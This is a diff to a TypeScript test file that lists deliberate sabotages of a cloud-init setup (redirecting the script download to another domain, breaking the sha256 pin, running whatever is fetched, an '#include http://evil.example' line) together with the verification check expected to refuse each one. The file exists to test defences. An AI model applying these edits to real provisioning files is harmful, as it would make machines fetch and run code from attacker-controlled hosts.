@@ -25,6 +25,30 @@ export const entrances: SabotagesOfKind = [
     find: '#cloud-config\n',
     put: '#include http://evil.example\n',
   }),
+  refused(
+    'a machine fetches its script from elsewhere',
+    'verify/script-not-fetched',
+    { file, find: 'https://files.example.fi/', put: 'https://files.example.org/' },
+    every,
+  ),
+  refused(
+    'a machine starts another script',
+    'verify/script-not-fetched',
+    { file, find: 'sha256=', put: 'sha256=0' },
+    every,
+  ),
+  refused(
+    'a machine starts whatever it fetches',
+    'verify/script-edited',
+    { file, find: 'if ! fetch', put: 'if fetch && "$script.new"; then exit; elif ! fetch' },
+    every,
+  ),
+  refused(
+    'cloud-init starts a script that nothing brings',
+    'verify/schema',
+    { file, find: '  - - /usr/local/sbin/fjord-fetch', put: '  - - /usr/local/sbin/fjord-apply' },
+    every,
+  ),
   refused('cloud-init reads a template', 'verify/schema', {
     file,
     find: '#cloud-config\n',
